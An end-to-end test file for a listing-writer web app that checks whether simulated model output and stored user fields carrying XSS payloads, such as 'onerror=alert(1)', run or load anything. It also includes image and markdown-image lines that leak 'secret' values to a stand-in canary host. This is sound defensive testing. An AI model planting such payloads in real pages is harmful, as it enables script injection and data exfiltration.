import { type ListingBrief, listingWriterEndpoints } from '@inkstone/contract/listing-writer';
import { portalEndpoints } from '@inkstone/contract/portal';
import { profileEndpoints } from '@inkstone/contract/profile';
import { settingsEndpoints } from '@inkstone/contract/settings';
import { phrases } from '@inkstone/phrases';
import type { Page } from 'playwright-core';
import { describe, expect } from 'vitest';
import { xssVectors } from '../apps/server/test/corpora/xss.ts';
import { it } from './support/journey.ts';
import { fillBrief, textOf, whenWriting } from './support/writer.ts';

const { writers } = phrases.en;

/**
 * Tells of what acts or loads and came into the page that a person sees, however briefly, and of every script that ran: the vectors call
 * `alert`. Requests to others the journeys hear by themselves.
 */
const watch = async (page: Page): Promise<string[]> => {
  const seen: string[] = [];
  page.on('dialog', (dialog) => {
    seen.push(dialog.message());
    void dialog.dismiss();
  });
  await page.exposeBinding('tellOfElement', (_source, text: string) => seen.push(text));
  await page.addInitScript(() => {
    const acts = 'iframe,frame,object,embed,base,meta[http-equiv=refresh],form[action],video,audio,marquee,math,foreignObject,animate,set';
    const look = (element: Element): void => {
      const isHandler = ({ name, value }: Attr) => name.startsWith('on') || /^\s*(?:javascript|vbscript|data:text)/i.test(value);
      const isForeign = element instanceof HTMLImageElement && !/^(?:data:|\/|http:\/\/127)/.test(element.getAttribute('src') ?? '');
      const tell: unknown = Reflect.get(window, 'tellOfElement');
      if ((element.matches(acts) || isForeign || [...element.attributes].some(isHandler)) && typeof tell === 'function')
        tell(element.outerHTML.slice(0, 200));
    };
    const lookAt = ({ addedNodes, target }: MutationRecord): void => {
      for (const node of [...addedNodes, target])
        if (node instanceof Element) for (const element of [node, ...node.querySelectorAll('*')]) look(element);
    };
    new MutationObserver((records) => records.forEach(lookAt)).observe(document, { subtree: true, childList: true, attributes: true });
  });
  return seen;
};

/** Chromium tells of handlers, styles and bases that it would not have let be also in the documents without a window in which texts are cleaned. */
const forgetInert = (complaints: string[]): void => {
  const others = complaints.filter(
    (text) =>
      !/script-src-attr inline|style-src-(?:elem|attr) inline|(?:Executing|Applying) inline|base-uri|base URI|HTMLScriptElement was directly modified and will not be executed/.test(
        text,
      ),
  );
  complaints.splice(0, complaints.length, ...others);
};

/** What takes the rest of a text along comes last, where nothing is left to be taken. */
const swallows =
  /<!|<(?:style|textarea|title|xmp|plaintext|noscript|noembed|noframes|iframe|select|template|script|svg|math|option|object)\b|<[^>]*$/i;
const plain = xssVectors.filter((vector) => !swallows.test(vector));
const greedy = xssVectors.filter((vector) => swallows.test(vector));

const carriesOut = [
  '<img src="https://canary.example/p.gif?points=7">',
  '![a](https://canary.example/q.png?secret=1)',
  '![b][c] [c]: https://canary.example/r.png?secret=2',
  '<link rel=prefetch href="https://canary.example/s"><p style="background:url(https://canary.example/t)">x</p>',
  '<video poster="https://canary.example/u"><source src="https://canary.example/v"></video>',
].join('\n');

const inParagraphs = (vectors: readonly string[]) => vectors.map((vector) => `<p>before ${vector} after</p>`).join('\n');
const halves = [greedy.filter((_, index) => index % 2 === 0), greedy.filter((_, index) => index % 2 === 1)];
const answers = [inParagraphs(plain), ...halves.map(inParagraphs), carriesOut];

describe('a model that writes hostile markup', () => {
  it('runs nothing and reaches nobody: while it streams (CVE-2026-32626), in the end (CVE-2026-26023), by its pictures (CVE-2025-32711)', async ({
    people,
    vendor,
  }) => {
    const { page, complaints } = await people.come('shop', { language: 'en', at: 'about:blank' });
    const seen = await watch(page);
    await page.goto('/freestyle');
    await fillBrief(page, 'en');
    for (const answer of answers) {
      vendor.say(answer);
      vendor.holdAgain();
      await page.keyboard.press('Control+Enter');
      await whenWriting(page, 'en');
      vendor.goOn();
      // The text is whole: its place is an editor again.
      await page.getByRole('textbox', { name: writers.fieldDescription, exact: true }).waitFor();
      expect(await textOf(page, writers.fieldDescription)).toContain('clipboard');
    }
    await page.reload();
    await page.getByRole('textbox', { name: writers.fieldDescription, exact: true }).waitFor();
    forgetInert(complaints);
    expect(seen).toEqual([]);
  });
});

const markup = '<img src=x onerror=alert(1)>';

const brief: ListingBrief = {
  productTitle: `${markup} tote`,
  mainIdea: markup,
  keywords: [markup],
  audience: '',
  instructions: '',
  tone: 'natural',
  brand: markup,
  wordCount: 80,
  language: 'en',
  modelId: null,
};
const text = { title: `${markup} title`, description: `<p>${markup} x</p>`, seoTitle: markup, seoDescription: `</title>${markup}` };

describe('markup that a person leaves behind', () => {
  it('is text for the person, and for the operator (CVE-2025-64495)', async ({ people }) => {
    const { call, context, page, email } = await people.come('shop', { language: 'en', at: 'about:blank' });
    const seen = await watch(page);
    await call(profileEndpoints.saveProfile, { body: { name: `${markup} Robin` } });
    await call(settingsEndpoints.savePrompts, { body: { systemPrompt: `${markup} be calm`, assistantPrompt: `</textarea>${markup}` } });
    await call(listingWriterEndpoints.saveDraft, {
      body: { brief, text, writtenBy: { model: markup, isBuiltin: false }, productId: null },
    });
    await context.request.post(portalEndpoints.login.path, {
      headers: { 'user-agent': `${markup} Mozilla`, 'x-requested-with': 'console' },
      data: { email, password: 'wrong on purpose' },
    });
    for (const at of ['/settings', '/history', '/freestyle', '/dashboard']) {
      await page.goto(at);
      await page.getByRole('heading', { level: 1 }).waitFor();
    }
    await page.getByText(text.title).first().waitFor();

    const operator = await people.come('operator', { language: 'en', at: 'about:blank' });
    const alsoSeen = await watch(operator.page);
    for (const section of ['accounts', 'security', 'audit', 'health']) {
      await operator.page.goto(`/secret_badass_page/${section}`);
      await operator.page.getByRole('heading', { level: 1 }).waitFor();
    }
    await operator.page.goto('/secret_badass_page/security');
    await operator.page.getByText(markup).first().waitFor();
    expect([...seen, ...alsoSeen]).toEqual([]);
  });
});
